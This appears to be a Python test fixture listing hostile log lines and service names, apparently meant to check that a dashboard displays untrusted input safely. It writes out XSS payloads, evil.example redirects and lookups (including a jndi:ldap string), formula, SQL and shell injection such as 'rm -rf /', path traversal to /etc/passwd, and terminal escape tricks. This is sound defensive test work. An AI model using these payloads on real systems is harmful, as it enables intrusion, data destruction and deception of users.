"""What somebody who means harm, or a broken program, writes into logs: texts, and names of services."""

from tests.serving.dashboard import shop

MARK = "(here are bytes that are no UTF-8)"  # replaced by `NO_UTF8` in the body of a request
NO_UTF8 = b"\xff\xfe \xc3\x28 \xed\xa0\x80 \xf0\x9f\x92"
HUGE = "2026-03-01 10:00:00 ERROR " + "<b onmouseover=alert(8)>" * 420_000  # 10 MB
TEXTS = (
    *shop.HOSTILE,
    "</script><script>alert(4)</script>",
    "</title></textarea></style><script>alert(5)</script>",
    "<iframe srcdoc='<script>parent.alert(6)</script>'></iframe>",
    "<a href='javascript:alert(7)'>a</a> [a](javascript:alert(7)) javas\tcript:alert(7) JaVaScRiPt:alert(7)",
    "data:text/html,<script>alert(8)</script> vbscript:msgbox(1) file:///etc/passwd http://127.0.0.1:9/",
    "<body onload=alert(9)><details open ontoggle=alert(10)><input autofocus onfocus=alert(11)>",
    "<style>@import 'http://evil.example/a.css'; * { display: none }</style>",
    "<meta http-equiv=refresh content='0;url=http://evil.example/'><base href='http://evil.example/'>",
    "<form action=http://evil.example/><button formaction=javascript:alert(12)>a</button></form>",
    "<div hx-get='http://evil.example/' hx-trigger=load hx-on:load=alert(13) data-hx-get=/x></div>",
    "<div id=live data-renew=http://evil.example/ data-every=1 data-live data-with=main></div>",
    "<svg><animate onbegin=alert(14) attributeName=x dur=1s><use href='data:image/svg+xml,x'/></svg>",
    "&lt;script&gt;alert(15)&lt;/script&gt; &#60;script&#62; %3Cscript%3E \\u003cscript\\u003e",
    "<!-- <![CDATA[ ]]> --> <?php echo 1 ?> <%= 7 * 7 %> #{7*7} {{constructor.constructor('alert(16)')()}}",
    '=cmd|\' /C calc\'!A0 @SUM(1+1) +1+1 -2+3 =HYPERLINK("http://evil.example","a") \t=1+1',
    "' OR 1=1 -- ; DROP TABLE incidents; \" UNION SELECT 1 \\' %' ESCAPE '_",
    "$(touch /tmp/owned) `id` ; rm -rf / | cat ${jndi:ldap://evil.example/a} %s%n%x%p {0.__class__}",
    "../../../../etc/passwd ..\\..\\windows C:\\con aux \\\\evil\\share",
    "a\x00b \x01\x02\x08\x0b\x0c\x0e\x7f\x80\x9b31m\x85\u2028\u2029\ufeff\ufffe\uffff",
    "\x1b]8;;http://evil.example/\x07click\x1b]8;;\x07 \x1b[2J\x1b[H\x1bP+q\x1b\\ \x1b]52;c;b3duZWQ=\x07",
    "\u202e\u2066\u2067\u2068\u202a\u202b\u200f\u061c reversed \u202d\u2069 \u200b\u200c\u200d\u2060\u00ad",
    "Z̡̢̨̖̗̘̙̜̝̞̟̠̣̤̥̦̩̪̫̬̭̮̯̰̱̲̳̹̺̻̼͇͈͉͍͎ͥa̷l̸g̶o̵ ﷽ ௵ 𒐫 🏳️‍🌈👩‍👩‍👧‍👦 ﬀ İı ẞ ǅ",
    "undefined null None NaN Infinity -0 1e309 0x1p-1074 true false [object Object] __proto__ constructor",
    "{" * 500 + '"a":' + "[" * 500,
    "田中さんにあげて下さい 社會科學院 Ω≈ç√∫ ÅÍÎÏ˝ السلام עברית ไทย हिन्दी",
    MARK,
)
SERVICES = (
    shop.HOSTILE_SERVICE,
    "javascript:alert(20)",
    "../../bundles?x=1#y",
    "' onmouseover='alert(21)",
    "\u202egnp.exe\x1b[31m",
    "<img src=x onerror=alert(22)>" * 30,
    "=1+1",
    "%00%ff%2e%2e",
)
